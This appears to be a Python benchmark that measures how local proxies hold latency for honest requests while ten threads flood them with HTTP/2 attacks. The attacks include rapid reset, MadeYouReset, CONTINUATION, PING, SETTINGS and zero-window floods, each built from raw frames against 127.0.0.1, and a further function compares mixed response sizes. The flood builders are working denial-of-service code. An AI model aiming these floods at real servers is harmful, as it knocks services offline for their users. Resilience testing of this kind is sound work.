"""Honest requests at a fixed rate beside floods of HTTP/2 (BAD-INPUT B1 to B8), and beside answers of another size.

An attacker opens a connection in cleartext, so that no handshake is measured, sends 2,000 pieces as fast as they are taken, reads until the proxy ends it or says nothing for half a
second, rests 250 ms, and comes again. Ten of them do so at a time, on the core of the load. The honest client is HTTP/1.1 on connections of its own,
at 2,000/s, by the clock. What the attackers take of the load's own core shows in the same requests sent straight to the backend meanwhile.
"""
import multiprocessing
import os
import random
import socket
import statistics
import struct
import subprocess
import threading
import time

import load
import machine
import proxies

ATTACKERS = 10
REST = 0.25
FRAMES = 2_000
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# :method GET, :scheme http, :path /api/1k, :authority 127.0.0.1; no dynamic table.
HEAD = bytes([0x82, 0x86, 0x04, 7]) + b"/api/1k" + bytes([0x01, 9]) + b"127.0.0.1"
LARGE = bytes([0x82, 0x86, 0x04, 9]) + b"/api/100k" + bytes([0x01, 9]) + b"127.0.0.1"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def streams():
    return range(1, 2 * FRAMES, 2)


NO_WINDOW = frame(4, 0, 0, struct.pack(">HI", 4, 0))
FLOODS = {
    "rapid reset": lambda: b"".join(frame(1, 5, i, HEAD) + frame(3, 0, i, struct.pack(">I", 8)) for i in streams()),
    "MadeYouReset": lambda: b"".join(frame(1, 5, i, HEAD) + frame(8, 0, i, bytes(4)) for i in streams()),
    "CONTINUATION": lambda: frame(1, 1, 1, HEAD) + b"".join(frame(9, 0, 1, b"\x00\x01a\x01b") for _ in range(FRAMES)),
    "PING": lambda: frame(6, 0, 0, bytes(8)) * FRAMES,
    "SETTINGS": lambda: frame(4, 0, 0) * FRAMES,
    "WINDOW_UPDATE": lambda: frame(8, 0, 0, struct.pack(">I", 1)) * FRAMES,
    "empty DATA": lambda: frame(1, 4, 1, bytes([0x83]) + HEAD[1:]) + frame(0, 0, 1) * FRAMES,
    "PRIORITY": lambda: frame(2, 0, 1, bytes([0, 0, 0, 3, 9])) * FRAMES,
    "no window": lambda: NO_WINDOW + b"".join(frame(1, 5, i, LARGE) for i in range(1, 2 * 100, 2)),
}


def attack(port, flood, until, counts):
    time.sleep(random.uniform(0, REST))
    while time.monotonic() < until:
        try:
            with socket.create_connection(("127.0.0.1", port), 5) as connection:
                counts[0] += 1
                connection.settimeout(0.5)
                connection.sendall(PREFACE + frame(4, 0, 0))
                for at in range(0, len(flood), 16384):
                    connection.sendall(flood[at:at + 16384])
                    counts[1] += len(flood[at:at + 16384])
                while connection.recv(65536):
                    pass
        except OSError:
            pass  # it was ended, or says no more
        time.sleep(REST)


class Attack:
    """`with`: ten attackers, as one process on the core of the load."""

    def __init__(self, port, flood, seconds):
        self.counts = multiprocessing.Array("q", 2)
        self.seconds = seconds
        self.process = multiprocessing.Process(target=self.run, args=(port, flood, time.monotonic() + seconds), daemon=True)

    def run(self, port, flood, until):
        os.sched_setaffinity(0, {int(machine.LOAD_CPU)})
        threads = [threading.Thread(target=attack, args=(port, flood, until, self.counts)) for _ in range(ATTACKERS)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()

    def __enter__(self):
        self.process.start()
        time.sleep(0.5)
        return self

    def __exit__(self, *_):
        self.process.kill()
        self.process.join()


def measure(proxy, run, repetitions, seconds, warm, out):
    kind = load.KINDS["rate"]
    straight = f"http://127.0.0.1:{proxies.BACKEND_PORT}/1k"
    proxy.start()
    load.measure(load.KINDS["get1k"], proxy.url("/1k"), proxy.process.pid, max(6, warm // 2), run)
    load.measure(load.KINDS["h2"], proxy.url("/1k", True), proxy.process.pid, max(6, warm // 2), run)
    rows = {}
    for name, make in FLOODS.items():
        flood = make()
        quiet, beside, direct, opened, sent, errors = [], [], [], 0, 0, 0
        for _ in range(repetitions):
            quiet.append(load.measure(kind, proxy.url("/1k"), proxy.process.pid, seconds, run).p99_us)
            with Attack(proxy.port, flood, seconds + 2) as attackers:
                cell = load.measure(kind, proxy.url("/1k"), proxy.process.pid, seconds, run)
            beside.append(cell.p99_us)
            errors += cell.errors
            opened += attackers.counts[0]
            sent += attackers.counts[1]
            with Attack(proxy.port, flood, seconds + 2):
                direct.append(load.measure(kind, straight, 0, seconds, run).p99_us)
        spent = repetitions * (seconds + 0.5)
        rows[name] = [
            f"{statistics.median(quiet):.0f}", f"{statistics.median(beside):.0f}",
            f"{statistics.median(b / q for b, q in zip(beside, quiet)):.2f}", f"{statistics.median(direct):.0f}", str(errors),
            f"{opened / spent:.0f}", f"{sent / spent / 1048576:.1f}", f"{machine.memory_mib(proxy.process.pid):.0f}"]
    proxy.stop()
    out.plain("2,000/s beside floods of HTTP/2", [
        "p99 us alone", "p99 us beside", "ratio", "p99 us direct meanwhile", "errors", "attacking connections/s", "MiB/s", "resident MiB after"], rows)


def mixed(chosen, run, repetitions, warm, out):
    """1 KiB and 100 KiB in turn on the streams of the same connections, against each alone: no request may wait much longer than the others."""
    rows = {}
    for proxy in chosen:
        if proxy.name == "bare":
            continue
        proxy.start()
        warmed = time.monotonic() + (warm if proxy.name == "tollgate" else 1)
        while time.monotonic() < warmed:
            answered(proxy, ["/1k", "/100k"], run)
        for name, paths in {"mixed": ["/1k", "/100k"], "1 KiB": ["/1k"], "100 KiB": ["/100k"]}.items():
            times = sorted(micros for _ in range(repetitions) for micros in answered(proxy, paths, run))
            rows[f"{proxy.name}, {name}"] = [str(times[len(times) // 2]), str(times[len(times) * 99 // 100]), str(times[-1]),
                                             f"{times[-1] / times[len(times) // 2]:.1f}"]
        proxy.stop()
    out.plain("HTTP/2, 8 connections of 16 streams, us of one request", ["p50", "p99", "longest", "longest / p50"], rows)


def answered(proxy, paths, run):
    """Microseconds of each request; one that is not answered is an end of the measurement."""
    log = run / "mixed.log"
    log.unlink(missing_ok=True)
    subprocess.run(["taskset", "-c", machine.LOAD_CPU, "h2load", "-n", "6000", "-c", "8", "-m", "16", f"--log-file={log}",
                    *(proxy.url(path, True) for path in paths)], capture_output=True, check=True)
    answers = [line.split()[1:3] for line in log.read_text().splitlines()]
    if len(answers) != 6000 or any(status != "200" for status, _ in answers):
        raise SystemExit(f"benchmarks: {len(answers)} of 6000 answers, see {log}")
    return [int(micros) for _, micros in answers]
